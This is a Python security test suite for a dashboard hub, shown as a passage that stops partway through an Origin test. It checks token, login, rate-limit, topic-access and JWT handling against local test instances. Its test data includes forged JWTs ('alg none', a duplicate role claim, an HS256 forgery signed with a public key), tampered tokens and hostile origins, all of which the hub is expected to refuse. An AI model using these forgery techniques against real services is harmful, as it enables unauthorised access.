#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Who may connect and what they see (SPEC §7, SECURITY.md S1-S3): real hubs
on loopback, raw sockets and WebSocket clients, tokens, people and JWTs.

Each test starts its own hub with files made in a temporary directory."""
import asyncio
import json
import os
import signal
import http.client
import socket
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rtdash_harness import (HOST, Hub, WSClient, apublisher, bin_path, check,  # noqa: E402
                            check_eq, free_port, http_get, is_sample, metric_find, metrics,
                            raw_http,
                            of_type, parse_prometheus, run_tests, short,
                            wait_until)
import jwt  # noqa: E402  (python3-jwt)

TOKEN_ADMIN = "admin-token-0123456789abcdef"
TOKEN_DEMO = "demo-viewer-0123456789abcd"
TOKEN_SYS = "sys-viewer-0123456789abcdef"
PASSWORD = "correct horse battery"
JWT_SECRET = b"jwt-secret-0123456789abcdef-0123456789"
ADMIN_HDR = {"Authorization": "Bearer " + TOKEN_ADMIN}


def hash_password(pw):
    r = subprocess.run([bin_path("rtdash-hub"), "--hash-password"], input=pw.encode(),
                       capture_output=True, timeout=30)
    check_eq(r.returncode, 0, "rtdash-hub --hash-password exit code")
    h = r.stdout.decode().strip()
    check(h.startswith("$argon2id$"), "--hash-password printed %r" % h)
    return h


_HASH = []


def write(d, name, text, mode=0o600):
    p = os.path.join(d, name)
    with open(p, "w") as f:
        f.write(text)
    os.chmod(p, mode)
    return p


def sec_dir(tokens=True, users=False, extra_tokens=""):
    """A temp dir with tokens and users files; returns (dir, args)."""
    d = tempfile.mkdtemp(prefix="rtdash-sec-")
    args = []
    if tokens:
        args += ["--auth", write(d, "tokens", "# machines\n%s admin\n%s viewer demo.*\n"
                                 "%s viewer system.*\n%s" % (TOKEN_ADMIN, TOKEN_DEMO, TOKEN_SYS,
                                                           extra_tokens))]
    if users:
        if not _HASH:
            _HASH.append(hash_password(PASSWORD))
        args += ["--users", write(d, "users", "alice admin %s\nbob viewer %s demo.*\n"
                                  % (_HASH[0], _HASH[0]), 0o644)]
    return d, args


def run_hub(args, timeout=10):
    """Run the hub expecting it to refuse to start: (exit code, output)."""
    port = free_port()
    r = subprocess.run([bin_path("rtdash-hub"), "--port", str(port), "--ingest",
                        "tcp://127.0.0.1:%d" % free_port()] + args,
                       capture_output=True, timeout=timeout)
    return r.returncode, (r.stdout + r.stderr).decode("utf-8", "replace")


def upgrade(port, path="/ws", headers=None, key=True, version="13", host=None, source=None):
    """A raw upgrade request (from the address source, if given); returns
    (status, headers, body)."""
    h = {"Host": host or "%s:%d" % (HOST, port), "Upgrade": "websocket",
         "Connection": "Upgrade"}
    if key:
        h["Sec-WebSocket-Key"] = "dGhlIHNhbXBsZSBub25jZQ=="
    if version is not None:
        h["Sec-WebSocket-Version"] = version
    h.update(headers or {})
    req = "GET %s HTTP/1.1\r\n" % path + "".join("%s: %s\r\n" % kv for kv in h.items()) + "\r\n"
    with socket.create_connection((HOST, port), timeout=5,
                                  source_address=(source, 0) if source else None) as s:
        s.sendall(req.encode("latin-1"))
        data = b""
        try:
            while b"\r\n\r\n" not in data:
                d = s.recv(4096)
                if not d:
                    break
                data += d
            head, _, rest = data.partition(b"\r\n\r\n")
            lines = head.decode("latin-1").split("\r\n")
            status = int(lines[0].split(" ")[1]) if len(lines[0].split(" ")) > 1 else 0
            hd = {}
            for line in lines[1:]:
                k, _, v = line.partition(":")
                hd[k.strip().lower()] = v.strip()
            n = int(hd.get("content-length", "0") or 0)
            while len(rest) < n:
                d = s.recv(4096)
                if not d:
                    break
                rest += d
            return status, hd, rest
        except (socket.timeout, ValueError, IndexError):
            return 0, {}, data


def listening(port):
    """The local addresses listening on port, from /proc/net/tcp{,6}."""
    out = set()
    for fn, v6 in (("/proc/net/tcp", False), ("/proc/net/tcp6", True)):
        try:
            lines = open(fn).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            f = line.split()
            addr, p = f[1].split(":")
            if int(p, 16) != port or f[3] != "0A":  # LISTEN
                continue
            if v6:
                b = bytes.fromhex(addr)
                words = b"".join(b[i:i + 4][::-1] for i in range(0, 16, 4))
                out.add(socket.inet_ntop(socket.AF_INET6, words))
            else:
                out.add(socket.inet_ntoa(bytes.fromhex(addr)[::-1]))
    return out


# ---------------------------------------------------------------- S1 defaults

async def test_loopback_only_without_auth():
    port = free_port()
    hub = Hub(only_args=True, port=port, extra_args=[
        "--port", str(port), "--ingest", "tcp://127.0.0.1:%d" % free_port()])
    with hub:
        addrs = listening(port)
        check(addrs and addrs <= {"127.0.0.1", "::1"},
              "without auth the hub listens on loopback only, got %s" % addrs)
        check("loopback only" in hub.log(), "the start line says loopback; log:\n" + hub.log())


async def test_all_interfaces_with_auth_and_warning_when_wide():
    d, args = sec_dir()
    port = free_port()
    hub = Hub(only_args=True, port=port, extra_args=[
        "--port", str(port), "--ingest", "tcp://127.0.0.1:%d" % free_port()] + args)
    with hub:
        addrs = listening(port)
        check(addrs & {"0.0.0.0", "::"}, "with --auth the hub listens on every interface: %s"
              % addrs)
        check("anonymous read access" not in hub.log(), "no warning with auth")
    port = free_port()
    hub = Hub(only_args=True, port=port, extra_args=[
        "--port", str(port), "--host", "0.0.0.0", "--ingest", "tcp://127.0.0.1:%d" % free_port()])
    with hub:
        check("anonymous read access to every topic on 0.0.0.0" in hub.log(),
              "a wide --host without auth warns; log:\n" + hub.log())


async def test_ipc_ingest_is_private():
    """An ipc:// ingest's socket file is 0600, or 0660 of --ingest-group's
    group; collectors still publish through it."""
    import grp
    import stat
    d = tempfile.mkdtemp(prefix="rtdash-ipc-")
    os.chmod(d, 0o755)  # the file's own mode is what protects it
    group = grp.getgrgid(os.getgid()).gr_name
    for extra, mode, gid in (([], 0o600, None), (["--ingest-group", group], 0o660, os.getgid())):
        path = os.path.join(d, "ingest.sock")
        port = free_port()
        old = os.umask(0)  # a permissive umask must not leak into the file
        try:
            hub = Hub(only_args=True, port=port, extra_args=[
                "--port", str(port), "--ingest", "ipc://" + path] + extra)
            hub.ingest = "ipc://" + path
        finally:
            os.umask(old)
        with hub:
            st = os.stat(path)
            check(stat.S_ISSOCK(st.st_mode), "%s is a socket" % path)
            check_eq(stat.S_IMODE(st.st_mode), mode, "the ipc socket's mode with %s" % extra)
            if gid is not None:
                check_eq(st.st_gid, gid, "the ipc socket's group")
            pub = await apublisher(hub)
            pub.sample("demo.ipc", {"v": 7})
            ok = False
            for _ in range(50):
                code, _, body = http_get(hub.port, "/api/history/demo.ipc")
                if code == 200 and b'"v":7' in body:
                    ok = True
                    break
                await asyncio.sleep(0.1)
            pub.close()
            check(ok, "a sample published through the ipc socket reached the hub")
    for args, want in ((["--ingest-group", group], "ipc://"),
                       (["--ingest", "ipc://" + os.path.join(d, "x.sock"), "--ingest-group",
                         "no-such-group-rtdash"], "no such group")):
        code, out = run_hub(args)
        check(code == 2 and want in out and len(out.strip().splitlines()) == 1,
              "--ingest-group misuse: exit %s, %r (want exit 2, one line with %r)"
              % (code, out, want))


def test_bad_files_stop_the_hub():
    d, args = sec_dir()
    cases = [
        ("a tokens file of comments only", ["--auth", write(d, "c", "# nobody\n\n")], "allows nobody"),
        ("an empty tokens file", ["--auth", write(d, "e", "")], "empty"),
        ("a world-writable tokens file", ["--auth", write(d, "w", TOKEN_ADMIN + " admin\n", 0o666)],
         "writable by group or others"),
        ("a tokens file readable by others", ["--auth", write(d, "r", TOKEN_ADMIN + " admin\n",
                                                            0o644)], "readable by group"),
        ("a missing file", ["--auth", os.path.join(d, "missing")], "No such file"),
        ("a directory", ["--auth", d], "not a regular file"),
        ("an unknown role", ["--auth", write(d, "u", TOKEN_ADMIN + " root\n")], "unknown role"),
        ("a viewer without patterns", ["--auth", write(d, "v", TOKEN_DEMO + " viewer\n")],
         "needs topic patterns"),
        ("a users file with a plain password", ["--users", write(d, "p", "alice admin secret\n",
                                                                 0o644)], "argon2id"),
        ("a world-writable users file", ["--users", write(d, "pw", "x admin $argon2id$v=19$m=1,"
                                                          "t=1,p=1$c2FsdA$aGFzaA\n", 0o666)],
         "writable"),
        ("a JWT secret too short", ["--jwt-key", write(d, "j", "short")], "32 bytes"),
        ("a bad --allow-origin", ["--allow-origin", "evil.example"], "not an origin"),
    ]
    failures = []
    for label, a, want in cases:
        code, out = run_hub(a)
        if code != 2 or want not in out or len(out.strip().splitlines()) != 1:
            failures.append("%s: exit %s, output %r (want exit 2, one line with %r)"
                            % (label, code, out[:300], want))
    check(not failures, "\n  ".join(failures))


# ---------------------------------------------------------------- S2 tokens

async def test_token_required_before_any_101():
    d, args = sec_dir()
    with Hub(args) as hub:
        st, hd, body = upgrade(hub.port)
        check_eq(st, 401, "upgrade without a token")
        check(b"unauthorized" in body, "401 body: %r" % body)
        st, _, _ = upgrade(hub.port, headers={"Authorization": "Bearer wrong-token-0123456789"})
        check_eq(st, 401, "upgrade with a wrong token")
        st, _, _ = upgrade(hub.port, headers={"Authorization": "Bearer " + TOKEN_DEMO,
                                              "Sec-WebSocket-Protocol": "rtdash.v1, bearer." +
                                              TOKEN_ADMIN})
        check_eq(st, 400, "two different tokens")
        for how in ("subprotocol", "header", "query"):
            if how == "subprotocol":
                c = await WSClient.connect(hub, subprotocols=["rtdash.v1", "bearer." + TOKEN_DEMO])
                check_eq(c.ws.subprotocol, "rtdash.v1", "the hub echoes only rtdash.v1")
            elif how == "header":
                c = await WSClient.connect(hub, extra_headers={"Authorization":
                                                                    "Bearer " + TOKEN_DEMO})
            else:
                c = await WSClient.connect(hub.ws_url + "?token=" + TOKEN_DEMO)
            await c.close()
        for path in ("/api/topics", "/api/history/demo.sales", "/api/whoami", "/metrics",
                     "/api/collectors"):
            st, _, _ = http_get(hub.port, path)
            check_eq(st, 401, "GET %s without a token" % path)
        conn = http.client.HTTPConnection(HOST, hub.port, timeout=5)
        conn.request("GET", "/api/whoami?token=" + TOKEN_ADMIN,
                     headers={"Authorization": "Bearer " + TOKEN_DEMO})
        r = conn.getresponse()
        r.read()
        conn.close()
        check_eq(r.status, 400, "/api with two different tokens")
        st, _, body = http_get(hub.port, "/api/whoami",
                               headers={"Authorization": "Bearer wrong-token-0123456789"})
        check(st == 401 and b"unknown or ended" in body, "a wrong token is told so: %r" % body)
        # hostile tokens: none of these is the demo viewer's token
        flipped = TOKEN_DEMO[:-1] + ("A" if TOKEN_DEMO[-1] != "A" else "B")
        for label, path, hd in (
                ("?token= empty", "/ws?token=", None),
                ("Bearer with nothing", "/ws", "Bearer"),
                ("last character flipped", "/ws", flipped),
                ("last character flipped, subprotocol", "/ws", None),
                ("trailing space (query)", "/ws?token=" + TOKEN_DEMO + "%20", None),
                ("trailing + (query)", "/ws?token=" + TOKEN_DEMO + "+", None),
                ("trailing word", "/ws", TOKEN_DEMO + " x"),
                ("other case", "/ws", TOKEN_DEMO.upper()),
                ("10 KB", "/ws", "a" * 10240)):
            h = {}
            if hd == "Bearer":
                h = {"Authorization": "Bearer "}
            elif hd is not None:
                h = {"Authorization": "Bearer " + hd}
            elif "subprotocol" in label:
                h = {"Sec-WebSocket-Protocol": "rtdash.v1, bearer." + flipped}
            try:
                st, _, _ = upgrade(hub.port, path=path, headers=h)
            except OSError:
                st = 0
            if label == "10 KB":  # over the header limit: 431, or the hub hangs up
                check(st in (401, 431, 0), "%s: %d, want 401 or 431" % (label, st))
            else:
                check_eq(st, 401, label)
        hub.check_alive()
        st, _, body = http_get(hub.port, "/healthz")
        check_eq((st, json.loads(body)), (200, {"status": "ok"}), "/healthz open, minimal")
        ms = metrics(hub.port, ADMIN_HDR)
        check(metric_find(ms, r"^rtdash_connections_refused_total$", {"reason": "auth"}) >= 3,
              "refused upgrades counted as auth")
        for reason, least in (("missing", 6), ("invalid", 2), ("conflict", 2)):
            n = metric_find(ms, r"^rtdash_auth_failures_total$", {"reason": reason})
            check(n >= least, "rtdash_auth_failures_total{reason=%s} = %s" % (reason, n))
        check("admin-token" not in hub.log() and "demo-viewer" not in hub.log(),
              "tokens never logged")


async def test_viewer_sees_only_its_topics():
    d, args = sec_dir()
    with Hub(args) as hub:
        pub = await apublisher(hub)
        for t in ("demo.sales", "demo.users", "system.cpu", "secret.temp"):
            pub.meta(t, title=t)
            pub.sample(t, {"v": 1})
        await asyncio.sleep(0.5)
        c = await WSClient.connect(hub, subprotocols=["rtdash.v1", "bearer." + TOKEN_DEMO])
        names = sorted(t["topic"] for t in c.welcome["topics"])
        check_eq(names, ["demo.sales", "demo.users"], "topics in a demo viewer's welcome")
        for how, kw in (("Authorization", {"extra_headers": {"Authorization": "Bearer " +
                                                              TOKEN_DEMO}}),
                        ("?token=", {})):
            other = await WSClient.connect(hub.ws_url + "?token=" + TOKEN_DEMO if not kw
                                           else hub, **kw)
            check_eq(sorted(t["topic"] for t in other.welcome["topics"]),
                     ["demo.sales", "demo.users"], "the welcome with the token in %s" % how)
            await other.close()
        for bad in (["*"], ["system.*"], ["demo.*", "secret.temp"]):
            await c.send({"type": "subscribe", "topics": bad})
            e = await c.wait_for(of_type("error"), 5, "error for %s" % bad)
            check_eq(e.get("code"), "forbidden", "subscribe %s" % bad)
        # a role claimed in a command changes nothing (NATS CVE-2022-24450's lesson:
        # access comes from the tokens file only)
        await c.send({"type": "subscribe", "topics": ["system.*"], "role": "admin",
                      "token": TOKEN_ADMIN})
        e = await c.wait_for(of_type("error"), 5, "error for a claimed role")
        check_eq(e.get("code"), "forbidden", "subscribe with a claimed admin role")
        await c.send({"type": "subscribe", "topics": ["demo.sales"],
                      "since": {"system.cpu": [1, 1]}})
        e = await c.wait_for(of_type("error"), 5, "error for since")
        check_eq(e.get("code"), "forbidden", "since outside the patterns")
        # patterns against a token limited to system.* (the sys viewer)
        sysc = await WSClient.connect(hub, subprotocols=["rtdash.v1", "bearer." + TOKEN_SYS])
        for ok_pat in (["system.cpu"], ["system.net.eth0"], ["system.*"]):
            await sysc.subscribe(ok_pat)
        for bad_pat, code in ((["system"], "forbidden"), (["systemd.x"], "forbidden"),
                              (["*"], "forbidden"), (["sys*"], "bad_topic"),
                              (["SYSTEM.cpu"], "forbidden")):
            await sysc.send({"type": "subscribe", "topics": bad_pat})
            e = await sysc.wait_for(of_type("error"), 5, "error for %s" % bad_pat)
            check_eq(e.get("code"), code, "a system.* token subscribing %s" % bad_pat)
        await sysc.close()
        await c.subscribe(["demo.*"])
        pub.meta("secret.new", title="s")
        pub.meta("demo.new", title="d")
        pub.sample("secret.new", {"v": 2})
        pub.sample("demo.new", {"v": 2})
        await c.wait_for(is_sample("demo.new"), 5, "a new demo topic's sample")
        await asyncio.sleep(0.3)
        leaked = [m for m in c.log if m.get("type") != "error" and "secret" in json.dumps(m)]
        check(not leaked, "nothing of secret.* reached the viewer: %s" % short(leaked))
        ms = metrics(hub.port, ADMIN_HDR)
        n = metric_find(ms, r"^rtdash_auth_failures_total$", {"reason": "forbidden"})
        check_eq(n, 9, "forbidden subscribes counted (5 of the demo viewer's, 4 of the system "
                 "viewer's)")
        h = {"Authorization": "Bearer " + TOKEN_DEMO}
        st, _, body = http_get(hub.port, "/api/topics", headers=h)
        check_eq(sorted(t["topic"] for t in json.loads(body)),
                 ["demo.new", "demo.sales", "demo.users"], "/api/topics for a demo viewer")
        st1, _, b1 = http_get(hub.port, "/api/history/secret.temp", headers=h)
        st2, _, b2 = http_get(hub.port, "/api/history/no.such", headers=h)
        check_eq((st1, b1), (st2, b2), "a forbidden topic answers like a missing one")
        check_eq(st1, 404, "forbidden history")
        st, _, _ = http_get(hub.port, "/api/history/demo.sales?format=csv", headers=h)
        check_eq(st, 200, "permitted history")
        for path in ("/metrics", "/api/collectors"):
            st, _, _ = http_get(hub.port, path, headers=h)
            check_eq(st, 403, "%s for a viewer" % path)
        st, _, body = http_get(hub.port, "/api/whoami", headers=h)
        check_eq(json.loads(body), {"user": None, "role": "viewer", "patterns": ["demo.*"],
                                    "exp": None, "auth": True}, "whoami of a token")
        await c.close()


async def test_metrics_token():
    d, args = sec_dir()
    mt = write(d, "metrics", "prometheus-scrape-token-0123\n")
    with Hub(args + ["--metrics-token", mt]) as hub:
        h = {"Authorization": "Bearer prometheus-scrape-token-0123"}
        st, _, body = http_get(hub.port, "/metrics", headers=h)
        check(st == 200 and b"rtdash_clients" in body, "the metrics token reads /metrics")
        for path in ("/api/topics", "/api/collectors"):
            st, _, _ = http_get(hub.port, path, headers=h)
            check_eq(st, 403, "%s with the metrics token" % path)
        st, _, _ = upgrade(hub.port, headers=h)
        check_eq(st, 403, "the metrics token cannot open the WebSocket")


async def test_reload_revokes_and_narrows():
    """SIGHUP: a removed token is closed with 4403 within 1 s; a token whose
    patterns narrowed loses those subscriptions (paused ones too) and gets
    nothing more from them; a bad file keeps the last good set (counted)."""
    d, args = sec_dir(extra_tokens="gone-token-0123456789abcdef viewer demo.*\n"
                                   "narrow-token-0123456789abcd viewer demo.* ops.*\n")
    tokens = args[1]
    with Hub(args) as hub:
        pub = await apublisher(hub)
        for t in ("demo.sales", "ops.feed"):
            pub.sample(t, {"v": 1})
        await asyncio.sleep(0.3)
        gone = await WSClient.connect(hub, subprotocols=["rtdash.v1",
                                                         "bearer.gone-token-0123456789abcdef"])
        narrow = await WSClient.connect(hub, subprotocols=["rtdash.v1",
                                                           "bearer.narrow-token-0123456789abcd"])
        await narrow.subscribe(["demo.*", "ops.*"])
        await narrow.send({"type": "pause", "topics": ["demo.*"]})
        await narrow.wait_for(of_type("paused"), 5, "paused")
        # a broken file: nothing changes, counted
        os.chmod(tokens, 0o666)
        hub.proc.send_signal(signal.SIGHUP)
        ok = await wait_until(lambda: metric_find(metrics(hub.port, ADMIN_HDR),
                                                  r"^rtdash_config_reloads_total$",
                                                  {"result": "failed"}) == 1, 3)
        check(ok, "a bad file on SIGHUP counted as failed")
        check(gone.closed is None, "the last good configuration stays")
        # the real change
        with open(tokens, "w") as f:
            f.write("%s admin\nnarrow-token-0123456789abcd viewer ops.*\n" % TOKEN_ADMIN)
        os.chmod(tokens, 0o600)
        t0 = time.monotonic()
        hub.proc.send_signal(signal.SIGHUP)
        await gone.wait_closed(3)
        check_eq(gone.closed[0], 4403, "close code of a revoked token")
        check(time.monotonic() - t0 < 1.0, "revoked within 1 s (%.2f s)" % (time.monotonic() - t0))
        u = await narrow.wait_for(of_type("unsubscribed"), 3, "unsubscribed for the lost pattern")
        check_eq(u.get("topics"), ["demo.*"], "the pattern dropped")
        pub.sample("demo.sales", {"v": 2})
        pub.sample("ops.feed", {"v": 2})
        await narrow.wait_for(is_sample("ops.feed"), 5, "ops.feed still delivered")
        await narrow.send({"type": "resume"})
        await asyncio.sleep(0.5)
        check(not [m for m in narrow.log[narrow.index(u):] if m.get("topic") == "demo.sales"],
              "nothing of demo.* after the narrowing, resume included")
        check_eq(metric_find(metrics(hub.port, ADMIN_HDR), r"^rtdash_config_reloads_total$",
                             {"result": "ok"}), 1, "reloads ok")
        await narrow.close()


# ---------------------------------------------------------------- people

async def test_login_logout_and_rate_limit():
    d, args = sec_dir(tokens=False, users=True)
    with Hub(args) as hub:
        st, _, body = http_get(hub.port, "/api/whoami")
        check_eq((st, json.loads(body).get("login")), (401, True), "whoami before login")

        def post(path, obj, cookie=None):
            conn = http.client.HTTPConnection(HOST, hub.port, timeout=10)
            h = {"Content-Type": "application/json"}
            if cookie:
                h["Cookie"] = cookie
            conn.request("POST", path, body=json.dumps(obj) if obj is not None else None,
                         headers=h)
            r = conn.getresponse()
            out = (r.status, {k.lower(): v for k, v in r.getheaders()}, r.read())
            conn.close()
            return out
        st, hd, body = post("/api/login", {"user": "bob", "password": "wrong"})
        check_eq(st, 401, "a wrong password")
        st, hd, body = post("/api/login", {"user": "nobody", "password": PASSWORD})
        check_eq(st, 401, "an unknown user")
        st, hd, body = post("/api/login", {"user": "bob", "password": PASSWORD})
        check_eq(st, 200, "login")
        ck = hd.get("set-cookie", "")
        check("HttpOnly" in ck and "SameSite=Strict" in ck and "Secure" not in ck and
              "Max-Age=" in ck, "the cookie's attributes: %r" % ck)
        cookie = ck.split(";")[0]
        who = json.loads(body)
        check_eq((who["user"], who["role"], who["patterns"]), ("bob", "viewer", ["demo.*"]),
                 "the login answer")
        st, _, body = http_get(hub.port, "/api/whoami", headers={"Cookie": cookie})
        check_eq(json.loads(body)["user"], "bob", "whoami with the cookie")
        c = await WSClient.connect(hub, extra_headers={"Cookie": cookie})
        st, _, _ = post("/api/logout", None, cookie)
        check_eq(st, 200, "logout")
        await c.wait_closed(3)
        check_eq(c.closed[0], 4401, "the session's WebSocket closes with 4401 on logout")
        st, _, _ = http_get(hub.port, "/api/whoami", headers={"Cookie": cookie})
        check_eq(st, 401, "the cookie is dead after logout")
        # rate limit: 5 at once per address, then 429 with the wait
        answers = [post("/api/login", {"user": "bob", "password": "x"}) for _ in range(7)]
        codes = [a[0] for a in answers]
        check(429 in codes, "login attempts rate-limited per address: %s" % codes)
        limited = [a for a in answers if a[0] == 429][0]
        check(limited[1].get("retry-after", "").isdigit(), "a 429 says when with Retry-After: %s"
              % limited[1])
        ms = metrics(hub.port, {"Cookie": post_admin(post)})
        check(metric_find(ms, r"^rtdash_logins_total$", {"result": "limited"}) >= 1,
              "limited logins counted")


async def test_failed_credentials_limited_per_address():
    """20 failed credentials a minute per address (--auth-fail-limit), then 429
    with Retry-After for everything from that address, the right token too;
    other addresses are not affected."""
    d, args = sec_dir()
    with Hub(args) as hub:  # --auth: every interface, so 127.0.0.2 reaches it

        def get(path, token, source="127.0.0.1"):
            conn = http.client.HTTPConnection(HOST, hub.port, timeout=5,
                                              source_address=(source, 0))
            try:
                conn.request("GET", path, headers={"Authorization": "Bearer " + token})
                r = conn.getresponse()
                return r.status, {k.lower(): v for k, v in r.getheaders()}, r.read()
            finally:
                conn.close()
        codes = [get("/api/whoami", "wrong-token-%02d-0123456789" % i)[0] for i in range(20)]
        check_eq(codes, [401] * 20, "the first 20 wrong tokens are told 401")
        st, hd, body = get("/api/whoami", "wrong-token-20-0123456789")
        check_eq(st, 429, "the 21st wrong token within the minute")
        check(hd.get("retry-after", "").isdigit() and 1 <= int(hd["retry-after"]) <= 60,
              "the 429 says when: %s" % hd)
        check(b"too many failed credentials" in body, "the 429 says why: %r" % body)
        st, _, _ = get("/api/whoami", TOKEN_ADMIN)
        check_eq(st, 429, "the right token from the same address while limited")
        st, hd, _ = upgrade(hub.port, headers={"Authorization": "Bearer " + TOKEN_ADMIN})
        check_eq(st, 429, "a WebSocket upgrade from the same address while limited")
        check("retry-after" in hd, "the upgrade's 429 has Retry-After: %s" % hd)
        st, _, body = get("/api/whoami", TOKEN_ADMIN, source="127.0.0.2")
        check_eq(st, 200, "another address is not limited")
        st, _, _ = upgrade(hub.port, headers={"Authorization": "Bearer " + TOKEN_DEMO},
                           source="127.0.0.2")
        check_eq(st, 101, "another address upgrades")
        # a good token does not count: 30 of them from a third address
        codes = {get("/api/whoami", TOKEN_DEMO, source="127.0.0.3")[0] for _ in range(30)}
        check_eq(codes, {200}, "right tokens are never limited")
        st, _, body = get("/metrics", TOKEN_ADMIN, source="127.0.0.2")
        check_eq(st, 200, "/metrics from another address")
        ms = parse_prometheus(body.decode())
        check(metric_find(ms, r"^rtdash_auth_failures_total$", {"reason": "limited"}) >= 3,
              "refusals past the limit counted as limited: %s" % body.decode()[-2000:])
        check(metric_find(ms, r"^rtdash_auth_failures_total$", {"reason": "invalid"}) >= 20,
              "the wrong tokens counted as invalid")
    # the limit is a setting; 0 turns it off
    with Hub(args + ["--auth-fail-limit", "0"]) as hub:
        codes = {http_get(hub.port, "/api/whoami", headers={"Authorization": "Bearer wrong-%02d"
                                                             "-0123456789abc" % i})[0]
                 for i in range(30)}
        check_eq(codes, {401}, "--auth-fail-limit 0: no 429")


def post_admin(post):
    """Log alice in (after the rate limit has passed for this address)."""
    for _ in range(40):
        st, hd, _ = post("/api/login", {"user": "alice", "password": PASSWORD})
        if st == 200:
            return hd["set-cookie"].split(";")[0]
        time.sleep(1)
    raise AssertionError("alice could not log in")


async def test_logins_do_not_stall_the_loop():
    """A password check takes tens of ms of CPU: it runs off the loop, so a
    client's pings are answered while logins are under way."""
    d, args = sec_dir(tokens=True, users=True)
    with Hub(args + ["--cmd-rate", "1000", "--cmd-burst", "1000"]) as hub:
        c = await WSClient.connect(hub, subprotocols=["rtdash.v1", "bearer." + TOKEN_ADMIN])
        loop = asyncio.get_running_loop()

        def logins():
            for _ in range(4):
                conn = http.client.HTTPConnection(HOST, hub.port, timeout=10)
                conn.request("POST", "/api/login", body=json.dumps(
                    {"user": "alice", "password": "wrong"}))
                conn.getresponse().read()
                conn.close()
        fut = loop.run_in_executor(None, logins)
        worst = 0.0
        while not fut.done():
            t = time.monotonic()
            await c.ping(5)
            worst = max(worst, time.monotonic() - t)
        await fut
        check(worst < 0.25, "a ping waited %.0f ms during logins" % (worst * 1000))
        await c.close()


# ---------------------------------------------------------------- JWT

async def test_jwt():
    d, args = sec_dir(tokens=False)
    key = write(d, "jwt", JWT_SECRET.decode())
    with Hub(["--jwt-key", key, "--jwt-aud", "rtdash"]) as hub:
        now = int(time.time())
        good = jwt.encode({"sub": "grafana", "role": "viewer", "topics": ["demo.*"],
                           "exp": now + 60, "aud": "rtdash"}, JWT_SECRET, algorithm="HS256")
        # lws 4.1 takes at most 127 bytes of subprotocols: a JWT goes as
        # ?token= (or Authorization), and a too long list is a 400
        st, _, body = upgrade(hub.port, headers={"Sec-WebSocket-Protocol": "rtdash.v1, bearer." +
                                                 good})
        check(st == 400 and b"?token=" in body, "a JWT as a subprotocol: %d %r" % (st, body))
        c = await WSClient.connect(hub.ws_url + "?token=" + good)
        await c.close()
        c = await WSClient.connect(hub, extra_headers={"Authorization": "Bearer " + good})
        await c.close()
        st, _, body = http_get(hub.port, "/api/whoami", headers={"Authorization": "Bearer " + good})
        who = json.loads(body)
        check_eq((who["user"], who["role"], who["patterns"], who["exp"]),
                 ("grafana", "viewer", ["demo.*"], now + 60), "whoami of a JWT")
        bad = {
            "alg none": jwt.encode({"role": "admin", "exp": now + 60, "aud": "rtdash"}, None,
                                   algorithm="none"),
            "expired": jwt.encode({"role": "admin", "exp": now - 10, "aud": "rtdash"}, JWT_SECRET,
                                  algorithm="HS256"),
            "nbf in the future": jwt.encode({"role": "admin", "exp": now + 600, "nbf": now + 120,
                                             "aud": "rtdash"}, JWT_SECRET, algorithm="HS256"),
            "no exp": jwt.encode({"role": "admin", "aud": "rtdash"}, JWT_SECRET, algorithm="HS256"),
            "wrong aud": jwt.encode({"role": "admin", "exp": now + 60, "aud": "other"}, JWT_SECRET,
                                    algorithm="HS256"),
            "HS512": jwt.encode({"role": "admin", "exp": now + 60, "aud": "rtdash"}, JWT_SECRET,
                                algorithm="HS512"),
            "topics a string": jwt.encode({"role": "viewer", "topics": "demo.*", "exp": now + 60,
                                           "aud": "rtdash"}, JWT_SECRET, algorithm="HS256"),
            "a flipped bit": good[:-3] + ("A" if good[-3] != "A" else "B") + good[-2:],
            "padding": good + "=",
            "8 KiB": good + "A" * 8192,
            "a duplicate role claim": _hs256_with_key(
                JWT_SECRET, '{"role":"viewer","topics":["demo.*"],"exp":%d,"aud":"rtdash",'
                '"role":"admin"}' % (now + 60)),
        }
        failures = []
        for label, tok in bad.items():
            try:
                st, _, _ = http_get(hub.port, "/api/whoami",
                                    headers={"Authorization": "Bearer " + tok})
            except (ConnectionError, http.client.HTTPException):
                st = 0  # past lws's header space: hung up, no access either
            if st != 401 and not (label == "8 KiB" and st in (0, 431)):
                failures.append("%s: %d" % (label, st))
        check(not failures, "bad JWTs accepted: %s" % failures)
        hub.check_alive()
        # algorithm confusion against a public key: HS256 keyed with its PEM bytes
        from cryptography.hazmat.primitives import serialization
        from cryptography.hazmat.primitives.asymmetric import ec
        priv = ec.generate_private_key(ec.SECP256R1())
        pem = priv.public_key().public_bytes(serialization.Encoding.PEM,
                                             serialization.PublicFormat.SubjectPublicKeyInfo)
        pk = write(d, "jwt.pub", pem.decode(), 0o644)
        with Hub(["--jwt-key", pk]) as es:
            ok_tok = jwt.encode({"role": "viewer", "topics": ["*"], "exp": now + 60,
                                 "aud": "rtdash"}, priv, algorithm="ES256")
            st, _, _ = http_get(es.port, "/api/whoami", headers={"Authorization": "Bearer " + ok_tok})
            check_eq(st, 200, "an ES256 token")
            forged = _hs256_with_key(pem, {"role": "admin", "exp": now + 60, "aud": "rtdash"})
            st, _, _ = http_get(es.port, "/api/whoami", headers={"Authorization": "Bearer " + forged})
            check_eq(st, 401, "HS256 signed with the public key's PEM")
        # a live JWT whose exp passes while connected: 4401
        short_lived = jwt.encode({"role": "viewer", "topics": ["*"], "exp": now + 2,
                                  "aud": "rtdash"}, JWT_SECRET, algorithm="HS256")
        c = await WSClient.connect(hub.ws_url + "?token=" + short_lived)
        await c.wait_closed(5)
        check_eq(c.closed[0], 4401, "an expired JWT's connection")


def _hs256_with_key(key, claims):
    """A JWT signed HS256 with key's bytes, by hand (PyJWT refuses a PEM as an
    HMAC secret, as it should); claims: a dict, or the JSON text itself."""
    import base64
    import hashlib
    import hmac

    def b64(b):
        return base64.urlsafe_b64encode(b).rstrip(b"=").decode()
    head = b64(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    body = b64((claims if isinstance(claims, str) else json.dumps(claims)).encode())
    sig = hmac.new(key, ("%s.%s" % (head, body)).encode(), hashlib.sha256).digest()
    return "%s.%s.%s" % (head, body, b64(sig))


# ---------------------------------------------------------------- S3 Origin and Host

async def test_origin_and_host():
    with Hub(["--allow-origin", "https://dash.example"]) as hub:
        p = hub.port
        refused = ["https://evil.example", "http://localhost:%d.evil.example" % p,
                   "http://evil.example/?http://localhost:%d" % p, "null",
                   "http://localhost:%d" % (p + 1), "https://localhost:%d" % p, "x" * 8000]
